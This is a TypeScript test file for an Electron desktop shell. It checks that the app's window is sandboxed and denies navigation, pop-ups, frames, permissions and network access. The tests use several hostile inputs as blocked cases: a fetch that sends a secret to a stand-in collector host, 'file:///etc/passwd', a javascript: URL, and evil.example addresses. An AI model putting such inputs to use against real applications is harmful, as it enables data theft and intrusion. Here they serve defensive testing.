import path from 'node:path';
import { afterAll, afterEach, describe, expect, it, vi } from 'vitest';
import { app } from '../doubles/electron/app.ts';
import { optionsOf, tryToOpen } from '../doubles/electron/browser-window.ts';
import { closeChromium } from '../doubles/electron/chromium.ts';
import { life } from '../doubles/electron/life.ts';
import { handlers, letsSave, letsThrough } from '../doubles/electron/session.ts';
import { until } from '../doubles/eventually.ts';
import { endShell, runShell, thePage, theWindow } from './running-shell.ts';

afterEach(endShell);
afterAll(closeChromium);

/** Long enough for a navigation that is going to happen to have begun. */
const aMoment = () => new Promise((resolve) => setTimeout(resolve, 300));

describe('the window', () => {
  it('shows the page of the private scheme, with events streaming', async () => {
    const broker = await runShell();
    const page = await thePage();

    await page.locator('#revision', { hasText: '1' }).waitFor();

    expect(theWindow().isVisible()).toBe(true);
    expect(broker.openStreams()).toBe(1);
  });

  it('ends the stream when it goes', async () => {
    const broker = await runShell();
    await thePage();
    await until(() => expect(broker.openStreams()).toBe(1));

    theWindow().destroy();

    await until(() => expect(broker.openStreams()).toBe(0));
  });

  it('asks for every protection there is', async () => {
    await runShell();

    expect(optionsOf(theWindow()).webPreferences).toMatchObject({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      nodeIntegrationInWorker: false,
      nodeIntegrationInSubFrames: false,
      webviewTag: false,
      webSecurity: true,
      allowRunningInsecureContent: false,
    });
  });

  it.each([
    ['a file that it made itself', 'blob:drawbridge://app/5f1c', true],
    ['a file of another page', 'blob:https://evil.example/5f1c', false],
    ['an address', 'https://evil.example/a.exe', false],
    ['its own pages', 'drawbridge://app/index.html', false],
  ])('lets %s be saved or not', async (_what, address, saved) => {
    await runShell();
    expect(letsSave(address)).toBe(saved);
  });

  it('gives the page the platform and nothing else', async () => {
    await runShell();
    const page = await thePage();

    const seen = await page.evaluate(() => ({
      drawbridge: Reflect.get(window, 'drawbridge'),
      frozen: Object.isFrozen(Reflect.get(window, 'drawbridge')),
      others: ['require', 'process', 'ipcRenderer', 'Buffer'].filter((name) => name in window),
    }));

    expect(seen).toEqual({ drawbridge: { platform: process.platform }, frozen: true, others: [] });
  });

  it('hides when closed and comes back the same', async () => {
    await runShell();
    await thePage();
    const window = theWindow();

    window.close();
    expect(window.isVisible()).toBe(false);
    expect(window.isDestroyed()).toBe(false);

    app.emit('activate', {});
    expect(window.isVisible()).toBe(true);
    expect(life().windows).toHaveLength(1);
  });

  it('is made anew after its page has crashed', async () => {
    await runShell();
    await thePage();

    theWindow().webContents.emit('render-process-gone', {}, { reason: 'crashed' });
    expect(life().windows.every((window) => window.isDestroyed())).toBe(true);
    app.emit('activate', {});

    await thePage();
    expect(theWindow().isVisible()).toBe(true);
    expect(life().phase).toBe('running');
  });

  it('can be as narrow as a phone', async () => {
    await runShell();

    expect(optionsOf(theWindow())).toMatchObject({ minWidth: 360, minHeight: 360 });
  });

  it('opens in the size it had', async () => {
    await runShell();
    await thePage();
    const first = theWindow();
    first.setSize(900, 700);
    first.close();
    first.destroy();

    app.emit('activate', {});

    expect(optionsOf(theWindow())).toMatchObject({ width: 900, height: 700 });
  });

  it('forgets no size over one too small to be kept', async () => {
    await runShell();
    await thePage();
    theWindow().setSize(200, 100);

    theWindow().close();
    theWindow().destroy();
    app.emit('activate', {});

    expect(optionsOf(theWindow())).toMatchObject({ width: 360, height: 360 });
  });
});

describe('a page', () => {
  it('cannot be led away: a link to the web opens in the browser instead', async () => {
    await runShell();
    const page = await thePage();
    const home = page.url();

    await page.locator('#plain').click();

    await until(() => expect(life().opened).toEqual(['https://docs.example/page']));
    expect(page.url()).toBe(home);
    expect(life().escapes).toEqual([]);
  });

  it('cannot be led to an insecure page, nor even to another page of its own', async () => {
    await runShell();
    const page = await thePage();
    const home = page.url();

    await page.locator('#insecure').click();
    await page.locator('#home').click();
    await aMoment();

    expect(page.url()).toBe(home);
    expect(life()).toMatchObject({ opened: [], escapes: [] });
  });

  it('opens no window of its own, by link or by script', async () => {
    await runShell();
    const page = await thePage();

    await page.locator('#blank').click();
    await until(() => expect(life().opened).toEqual(['https://docs.example/other']));
    const opened = await page.evaluate(() => window.open('http://public.example/'));
    await aMoment();

    expect(opened).toBeNull();
    expect(life().opened).toHaveLength(1);
    expect(life().escapes).toEqual([]);
    await expect.poll(() => page.context().pages()).toHaveLength(1);
  });

  it.each(['javascript:alert(1)', 'file:///etc/passwd', 'smb://host/share', 'about:blank'])(
    'cannot open %s',
    async (address) => {
      await runShell();

      tryToOpen(theWindow().webContents, address);

      expect(life()).toMatchObject({ opened: [], escapes: [] });
    },
  );

  it('holds no frame that goes elsewhere', async () => {
    await runShell();
    const page = await thePage();

    await page.evaluate(() => {
      const frame = document.createElement('iframe');
      frame.src = 'https://frame.example/';
      document.body.append(frame);
    });
    await aMoment();

    expect(page.frames().map((frame) => frame.url())).not.toContain('https://frame.example/');
    expect(life()).toMatchObject({ opened: [], escapes: [] });
  });

  it('reaches no network', async () => {
    await runShell();
    const page = await thePage();

    const outcome = await page.evaluate(() =>
      fetch('https://collector.example/?secret').then(
        () => 'sent',
        () => 'blocked',
      ),
    );

    expect(outcome).toBe('blocked');
    expect(await letsThrough('https://collector.example/')).toBe(false);
    expect(await letsThrough('drawbridge://app.evil.example/')).toBe(false);
    expect(await letsThrough('drawbridge://app/index.html')).toBe(true);
  });

  it('is granted no permission but to copy what the person asked to copy', async () => {
    await runShell();
    const asked = (permission: string) => {
      let granted: boolean | undefined;
      handlers.request?.(null, permission, (decision) => {
        granted = decision;
      });
      return [granted, handlers.check?.(null, permission)];
    };

    expect(asked('media')).toEqual([false, false]);
    expect(asked('notifications')).toEqual([false, false]);
    expect(asked('clipboard-read')).toEqual([false, false]);
    expect(asked('clipboard-sanitized-write')).toEqual([true, true]);
    expect(handlers.device?.()).toBe(false);
    expect(handlers.spellChecker).toBe(false);
  });

  it('cannot attach a webview', async () => {
    await runShell();
    const preventDefault = vi.fn();

    theWindow().webContents.emit('will-attach-webview', { preventDefault });

    expect(preventDefault).toHaveBeenCalled();
  });

  it('is answered nothing on another host of the scheme', async () => {
    await runShell();
    const answer = await life().handlers.get('drawbridge')?.(
      new Request('drawbridge://other/index.html'),
    );

    expect(answer?.status).toBe(404);
  });
});

it('looks for the built files where the build puts them', async () => {
  const { builtPaths } = await import('../../electron/paths.ts');
  const root = path.resolve(import.meta.dirname, '../..');

  expect(builtPaths(path.join(root, 'dist/electron'))).toEqual({
    preload: path.join(root, 'dist/electron/preload.cjs'),
    keychainChild: path.join(root, 'dist/keychain-child.cjs'),
    shim: path.join(root, 'dist/shim.cjs'),
    windowFolder: path.join(root, 'dist/renderer'),
    trayIcons: path.join(root, 'dist/assets/tray'),
  });
});
